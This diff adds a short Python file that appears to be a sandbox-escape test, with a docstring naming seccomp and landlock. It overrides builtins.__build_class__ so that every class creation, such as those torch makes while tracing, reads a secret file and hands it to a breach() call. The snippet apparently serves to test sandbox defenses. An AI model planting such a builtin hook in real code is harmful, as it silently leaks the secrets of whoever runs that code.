@@ -1,0 +1,20 @@
+"""Replaces __build_class__, which the machine calls for every class that torch makes while it traces.
+
+walls: seccomp landlock
+"""
+
+import builtins
+
+build = builtins.__build_class__
+
+
+def attack(*args, **kwargs):
+    breach(open(SECRET).read())
+    return build(*args, **kwargs)
+
+
+builtins.__build_class__ = attack
+
+
+class A:
+    pass
